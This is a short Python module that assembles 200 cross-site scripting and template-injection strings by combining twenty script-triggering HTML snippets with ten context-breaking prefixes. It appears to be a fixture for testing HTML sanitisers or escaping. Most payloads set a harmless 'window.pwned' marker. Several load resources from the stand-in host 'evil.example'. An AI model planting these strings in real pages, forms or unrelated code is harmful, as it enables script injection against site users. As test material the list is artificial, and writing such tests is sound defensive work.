"""Two hundred texts that do something where they are not treated as text."""

from typing import Final

_DOINGS: Final = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<math><mtext><img src=x onerror=window.pwned=1></mtext></math>",
    "<a href=javascript:window.pwned=1>x</a>",
    "<form action=javascript:window.pwned=1><button>x</button></form>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>window.pwned=1</script></template>",
    "<marquee onstart=window.pwned=1>x</marquee>",
    "{{ 7 * 7 }}{% raw %}{{ me.id }}",
    "${window.pwned=1}`;window.pwned=1;//",
)
_WAYS_OUT: Final = (
    "{}",
    "'>{}",
    '">{}',
    "</textarea>{}",
    "</title></style></script>{}",
    "-->{}<!--",
    "]]>{}",
    "\u202e{}\u2066\u200b",
    "' onmouseover='window.pwned=1' {}",
    "&lt;{}&#60;&#x3c;",
)
PAYLOADS: Final = tuple(way.replace("{}", doing, 1) for way in _WAYS_OUT for doing in _DOINGS)
